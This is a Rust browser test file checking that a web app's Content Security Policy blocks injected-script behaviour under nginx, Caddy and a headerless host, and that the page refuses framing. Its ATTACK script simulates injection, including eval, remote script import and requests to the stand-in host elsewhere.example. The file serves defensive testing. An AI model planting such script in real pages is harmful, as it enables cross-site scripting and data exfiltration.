//! The content security policy is in force: what it forbids does not happen, and the tests would notice.

use anyhow::ensure;
use axum::{Router, response::Html, routing::get};
use demo_api::sample::Size;
use serde_json::json;

use super::{hosted, server::Program, violations, watch};
use crate::{
    journeys,
    support::{
        Outcome,
        browser::Browser,
        context::TestContext,
        element::{Scope, button},
        wait,
    },
};

journeys! {
    Once:
        nginx_has_it_kept,
        caddy_has_it_kept,
        the_page_alone_has_it_kept,
        nobody_shows_the_page_in_a_frame;
}

/// Does what an injected script would do, and gives what came of it. Later, as DevTools lets what it runs itself do more.
const ATTACK: &str = "const done = arguments[0], went = [];
    setTimeout(() => {
    const attempt = (name, run) => { try { run(); went.push(name); } catch {} };
    attempt('eval', () => eval('1'));
    attempt('markup', () => { document.createElement('p').innerHTML = '<b>'; });
    attempt('policy', () => { trustedTypes.createPolicy('mine', { createHTML: text => text }); });
    document.body.setAttribute('style', 'color: red');
    document.head.append(document.createElement('style'));
    document.head.lastChild.textContent = 'body { color: red }';
    const image = new Image();
    image.src = 'https://elsewhere.example/a.png';
    const form = document.createElement('form');
    form.action = 'https://elsewhere.example/';
    document.body.append(form);
    form.submit();
    const base = document.createElement('base');
    base.href = 'https://elsewhere.example/';
    document.head.prepend(base);
    import('https://elsewhere.example/a.js').then(() => went.push('script'), () => {});
    fetch('ws://elsewhere.example/').catch(() => {});
    fetch('https://elsewhere.example/').then(() => went.push('request'), () => {}).then(() => done(went));
    });";

/// The directives that stop it.
const STOPPED_BY: [&str; 8] = [
    "base-uri",
    "connect-src",
    "form-action",
    "img-src",
    "require-trusted-types-for",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
];

async fn nginx_has_it_kept(context: TestContext) -> Outcome {
    a_server_has_it_kept(context, Program::Nginx).await
}

async fn caddy_has_it_kept(context: TestContext) -> Outcome {
    a_server_has_it_kept(context, Program::Caddy).await
}

async fn a_server_has_it_kept(context: TestContext, program: Program) -> Outcome {
    let cohort = hosted(&context, program, Size::default(), json!({})).await?;
    cohort.expect_no_session();
    cohort.go("").await?;
    cohort.browser.find(&button("Sign in")).await?;
    is_attacked_in_vain(&cohort.browser).await
}

/// On a host that sends no headers at all.
async fn the_page_alone_has_it_kept(context: TestContext) -> Outcome {
    let cohort = context.signed_out().await?;
    watch(&cohort.browser).await?;
    cohort.expect_no_session();
    cohort.go("").await?;
    cohort.browser.find(&button("Sign in")).await?;
    // No such host: the request to it fails as well, and the console says so.
    cohort.browser.tolerate_console("elsewhere.example");
    is_attacked_in_vain(&cohort.browser).await
}

async fn is_attacked_in_vain(browser: &Browser) -> Outcome {
    for part in ["Content Security Policy", "has been blocked"] {
        browser.tolerate_console(part);
    }
    browser.expect_console(&["Content Security Policy"]);
    let went = browser.script_async(ATTACK, Vec::new()).await?;
    assert_eq!(went, json!([]));
    wait::until("the violations", async || {
        let found = violations(browser).await?;
        for directive in STOPPED_BY {
            ensure!(
                found.iter().any(|line| line.starts_with(directive)),
                "{directive} stopped nothing, there is {found:#?}"
            );
        }
        Ok(())
    })
    .await
}

async fn nobody_shows_the_page_in_a_frame(context: TestContext) -> Outcome {
    let cohort = hosted(&context, Program::Nginx, Size::default(), json!({})).await?;
    let page = format!(
        "<!doctype html><html lang=en><title>Elsewhere</title><link rel=icon href=data:,><iframe src=\"{}\"></iframe>",
        cohort.site.address("")
    );
    let routes = Router::new().route("/", get(async move || Html(page)));
    let test_page = context.test_page(routes).await?;
    test_page.browser.at_rest().await?;
    test_page.browser.expect_console(&["frame-ancestors"]);
    test_page.browser.check_console().await
}
